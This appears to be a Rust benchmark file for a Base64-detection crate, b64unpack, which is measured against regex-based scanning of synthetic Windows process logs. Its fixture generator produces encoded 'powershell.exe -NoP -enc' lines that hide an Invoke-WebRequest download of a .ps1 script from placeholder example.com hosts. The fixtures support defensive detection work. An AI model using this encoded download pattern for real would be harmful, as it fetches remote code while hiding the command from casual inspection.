//! The finder against `regex` with the same language, and unpacking against decoding what `regex`
//! found; in one run, the answers compared first.

#![allow(missing_docs, reason = "criterion's macros make functions without")]

use std::hint::black_box;

use b64unpack::{Encodings, Finder, Unpacker};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use regex::bytes::Regex;

/// Long enough that both find the same: words of a path are shorter.
const MIN_LEN: usize = 40;
const RIVAL: &str = "[A-Za-z0-9+/]{40,}={0,2}";

/// Command lines; one in `hidden` holds an encoded script.
fn log(lines: usize, hidden: usize) -> Vec<u8> {
    let mut log = String::new();
    for line in 0..lines {
        if line % hidden == 0 {
            let script =
                format!("Invoke-WebRequest http://host{line}.example.com/a.ps1 -OutFile b");
            let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
            log += &format!("powershell.exe -NoP -enc {}\n", STANDARD.encode(wide));
        } else {
            log += &format!("C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule{line}\n");
        }
    }
    log.into_bytes()
}

fn find(c: &mut Criterion) {
    let rival = Regex::new(RIVAL).unwrap_or_else(|_| unreachable!("a constant"));
    let finder = Finder::new().min_len(MIN_LEN);
    let mut group = c.benchmark_group("find");
    for (name, hidden) in [("one in a thousand", 1000), ("one in ten", 10)] {
        let log = log(20_000, hidden);
        let ours: Vec<_> = finder.find_iter(&log).map(|found| found.range()).collect();
        let theirs: Vec<_> = rival.find_iter(&log).map(|found| found.range()).collect();
        assert_eq!(ours, theirs);
        group.throughput(Throughput::Bytes(log.len() as u64));
        group.bench_function(format!("b64unpack/{name}"), |b| {
            b.iter(|| finder.find_iter(black_box(&log)).count());
        });
        group.bench_function(format!("regex/{name}"), |b| {
            b.iter(|| rival.find_iter(black_box(&log)).count());
        });
    }
    group.finish();
}

/// A log without Base64, line by line, as one looks for what MSTICPy looks for.
fn clean(c: &mut Criterion) {
    let rival = Regex::new(r"[A-Za-z0-9+/\n\r]{30,}={0,2}").unwrap_or_else(|_| unreachable!());
    let log = log(200_000, usize::MAX).split_off(100);
    let mut group = c.benchmark_group("clean");
    group.throughput(Throughput::Bytes(log.len() as u64));
    group.bench_function("find_iter", |b| {
        b.iter(|| Finder::new().find_iter(black_box(&log)).count());
    });
    group.bench_function("find_iter, runs only", |b| {
        let finder = Finder::new().context(false).joined(false);
        b.iter(|| finder.find_iter(black_box(&log)).count());
    });
    group.bench_function("unpack", |b| {
        b.iter(|| Unpacker::new().unpack(black_box(&log)).len());
    });
    group.bench_function("unpack, Base64 only", |b| {
        let unpacker = Unpacker::new().encodings(Encodings::BASE64);
        b.iter(|| unpacker.unpack(black_box(&log)).len());
    });
    group.bench_function("regex", |b| {
        let lines = || black_box(&log).split(|&byte| byte == b'\n');
        b.iter(|| lines().filter(|line| rival.is_match(line)).count());
    });
    group.finish();
}

fn unpack(c: &mut Criterion) {
    let rival = Regex::new(RIVAL).unwrap_or_else(|_| unreachable!("a constant"));
    let decode = |log: &[u8]| -> usize {
        rival
            .find_iter(log)
            .filter_map(|found| STANDARD.decode(found.as_bytes()).ok())
            .count()
    };
    let log = log(20_000, 100);
    assert_eq!(Unpacker::new().unpack(&log).roots().count(), decode(&log));
    let mut group = c.benchmark_group("unpack");
    group.throughput(Throughput::Bytes(log.len() as u64));
    group.bench_function("b64unpack", |b| {
        b.iter(|| Unpacker::new().unpack(black_box(&log)).len());
    });
    group.bench_function("regex and base64", |b| b.iter(|| decode(black_box(&log))));
    group.finish();
}

criterion_group!(benches, find, clean, unpack);
criterion_main!(benches);
